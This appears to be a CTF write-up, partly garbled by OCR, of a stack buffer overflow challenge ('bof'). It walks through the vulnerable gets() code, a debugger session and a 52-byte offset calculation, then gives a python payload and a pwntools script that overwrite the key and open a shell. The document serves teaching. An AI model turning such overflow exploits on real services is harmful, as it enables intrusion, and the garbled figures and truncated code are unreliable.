Breakdown of program

I opened the challenge and found there two files bof and bof.c let’s breakdown the function :p so the program was:

#include <stdio.h>
#include <string.h>
#include <stdlib.h>
void func(int key){
    char overflowme[32];
    printf("overflow me : ");
    gets(overflowme);   // smash me!
    if(key == 0xcafebabe){int main(int argc, char* argv[]){
    return 0;

in this we can see there are two functions “func” and “main” in this program we can see function name “func” takes a parimiter key and declared a variable overflowme having a buffer 32 then it takes input and compares with the key “0xcafebabe” if the key is correct it gives us pass else it wll say nah while in the next function main () it just calling “func” and gives HARthe value of key “ox0deadbeef” that’s how program worked what we need is to overwrite the stack to get the flag binary eploitation and analysis let’s dissamble the “func” function to see the asssembly code i.e whats hapening with our code

gef➤ disass func
Dump of assembler code for function func:
0x5655562c <+0>: push ebp
0x5655562d <+1>: mov ebp,esp
0x5655562f <+3>: sub esp,0x48
0x56555632 <+6>: mov eax,gs:0x14
0x56555638 <+12>: mov DWORD PTR [ebp-0xc],eax
0x5655563b <+15>: xor eax,eax0x5655563d <+17>: mov DWORD PTR [esp],0x5655578c
0x56555644 <+24>: call 0xf7e27460 <__GI__IO_puts>
0x56555649 <+29>: lea eax,[ebp-0x2c]
0x5655564c <+32>: mov DWORD PTR [esp],eax
0x5655564f <+35>: call 0xf7e26980 <_IO_gets>
0x56555654 <+40>: cmp DWORD PTR [ebp+0x8],0xcafebabe
0x5655565b <+47>: jne 0x5655566b <func+63>
0x5655565d <+49>: mov DWORD PTR [esp],0x5655579b
[ Legend: Modified register | Code | Heap | Stack | String ]
here we can see cmp which compares both strings and gave us output according to our strings lest’s set breakpoint at cmp with his address and run the our program with AAAAAAAAAAAAAAAAAA to buffer overflow
gef➤ break *0x56555654
Breakpoint 2 at 0x56555654
gef➤ c
overflow me :

let’s start to search0x0deadbeef key in esp register we can see it by typing x/40xw in gef debugger we can seeoutput like this:

here we can see our output AAAAAAAAAAA as “0x414141” and we can see the key 0xedeadbeef too now we find out the distance between our input and the key i.e deadbeef we all know hexadecimal is of 16 bytes and value is stored IN REGISTERS like: AAAA = 44 = 16 so as a highlighted our AAAA is started and where the 0x0deadbeef occurs there are 13 hexa digits so according to basic math Distance = 134= 52 bytes so we need 52 character to exploit so acccording to little endia ( data in cstored in format of little endia) key will be ‘\xbe\xba\xfe\xca’” and have 52 chracters so final payload will be python -c “print ‘A’ * 52 + ‘\xbe\xba\xfe\xca’” i code (steal) little python script and run this payload from pwn import * conn =remote(“”, 9000) payload = ‘A’ * 52 + ‘\xbe\xba\xfe\xca’conn.sendline(payload) conn.interactive() then i got flag after going to home directory and typed cat flag :) that;s all i made a videotoo if uh got time then saw this too: